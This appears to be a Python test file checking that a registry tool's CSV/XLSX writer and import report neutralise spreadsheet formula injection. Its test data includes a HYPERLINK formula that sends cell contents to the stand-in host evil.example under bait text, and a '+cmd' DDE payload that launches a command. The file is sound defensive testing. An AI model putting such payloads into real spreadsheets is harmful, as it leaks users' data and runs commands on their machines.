"""Issue 12, formula injection: the one neutraliser every CSV/XLSX writer uses, and the import report."""

from __future__ import annotations

import csv
import re
from decimal import Decimal

import pytest
from hypothesis import given
from hypothesis import strategies as st

from qinqing.registry.report import read_report, write_report
from qinqing.registry.spreadsheet import FORMULA_TRIGGERS, safe_cell
from qinqing.registry.validate import Problem


@pytest.mark.parametrize(("value", "written"), [
    ('=HYPERLINK("http://evil.example/?leak="&A2,"点击领取补贴")',
     '\'=HYPERLINK("http://evil.example/?leak="&A2,"点击领取补贴")'),
    ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
    ("-2+3", "'-2+3"),
    ("@SUM(1)", "'@SUM(1)"),
    ("\t=1", "'\t=1"),
    ("\r=1", "'\r=1"),
    ("-12.5", "-12.5"),  # a plain number as text: no spreadsheet runs it
    ("+3", "+3"),
    ("-", "'-"),
    ("", ""),
    ("杭州甲科技有限公司", "杭州甲科技有限公司"),
    (" =1", " =1"),
    (-12.5, -12.5),
    (Decimal("-3.5"), Decimal("-3.5")),
    (-3, -3),
    (None, None),
    (True, True),
])
def test_safe_cell_examples(value, written):
    assert safe_cell(value) == written and type(safe_cell(value)) is type(written)


@given(st.text())
def test_safe_cell_never_leaves_a_formula_and_only_adds_an_apostrophe(text):
    written = safe_cell(text)
    assert written in (text, "'" + text)
    if written.startswith(FORMULA_TRIGGERS):  # left alone: only a plain number may start so
        assert written == text and re.fullmatch(r"[+-]?[0-9]+(\.[0-9]+)?", text)


def test_import_report_neutralises_formula_values_and_headers(tmp_path):
    """Issue 12: the registry import problem report wrote cell values and headers from the file raw."""
    problems = [Problem(2, "=A1", '=HYPERLINK("http://evil.example/","点击")', "应为整数"),
                Problem(3, "从业人员", "-3", "从业人员应在0到10000000人之间，实为-3"),
                Problem(4, "企业名称", "@SUM(1)", "+x")]
    write_report(tmp_path / "r.csv", problems)
    with (tmp_path / "r.csv").open(encoding="utf-8-sig", newline="") as handle:
        rows = list(csv.reader(handle))
    assert rows[1:] == [["2", "'=A1", '\'=HYPERLINK("http://evil.example/","点击")', "应为整数"],
                        ["3", "从业人员", "-3", "从业人员应在0到10000000人之间，实为-3"],
                        ["4", "企业名称", "'@SUM(1)", "'+x"]]
    assert read_report(tmp_path / "r.csv")[1] == problems[1]
